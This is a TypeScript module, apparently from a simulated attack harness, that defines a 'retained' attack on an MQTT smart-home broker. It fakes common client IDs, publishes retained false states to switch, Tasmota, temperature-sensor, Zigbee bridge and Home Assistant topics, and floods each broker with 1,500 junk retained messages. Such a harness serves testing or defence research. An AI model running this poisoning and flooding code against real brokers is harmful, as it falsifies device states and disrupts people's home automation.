// Retained lies, and more retained messages than anybody asked for.

import type { Attack } from '../attacker.js'
import { TOPIC_WORDS } from './words.js'

/** Telephones listen to theirs over TLS, where labels do not look. */
const WORDS = TOPIC_WORDS.filter(word => word !== 'owntracks')

/** Lies that stay. */
export const retained: Attack = {
  name: 'retained',
  summary:
    'retained poisoning and flood: 3 to 5 addresses overwrite what devices have told, and leave retained messages on new topics, 1,500 in all from each, 50 a second',
  attackers: [3, 5],
  async run(attacker) {
    const {
      chance,
      scene: { home }
    } = attacker
    const clientId = `${chance.oneOf(['mqttjs', 'paho', 'mosq'])}_${chance.text(10)}`
    const client = await attacker.client({ clientId, keepalive: 60 })
    if (client === null) return
    const say = (topic: string, payload: string): void => {
      attacker.note(clientId, topic, payload)
      client.publish(topic, payload, { qos: chance.oneOf([0, 1]), retain: true }, () => {})
    }
    const lies = [
      ...home
        .namesOf('switch')
        .map(name => [`${home.base}/${name}/state`, chance.oneOf(['', 'UNKNOWN', 'pwned', '{"state":"OFF"}'])]),
      ...home.namesOf('tasmota').map(name => [`tele/${name}/LWT`, chance.oneOf(['', 'Offline!', 'hacked'])]),
      ...home
        .namesOf('dht11')
        .map(name => [`${home.base}/${name}/temperature`, chance.oneOf(['-273.15', '9999', 'NaN', ''])]),
      [`${home.zigbee}/bridge/state`, '{"state":"gone"}'],
      ['homeassistant/status', 'x']
    ]
    for (let sent = 0; sent < 1_500 && !attacker.over && client.connected; sent++) {
      if (chance.happens(0.3)) {
        const [topic, payload] = chance.oneOf(lies)
        say(topic, payload)
      } else {
        say(`${chance.oneOf(WORDS)}/${chance.text(8)}/${sent}`, chance.text(chance.whole(1, 200)))
      }
      await attacker.pause(chance.between(10, 30))
    }
    client.end(!client.connected)
  }
}
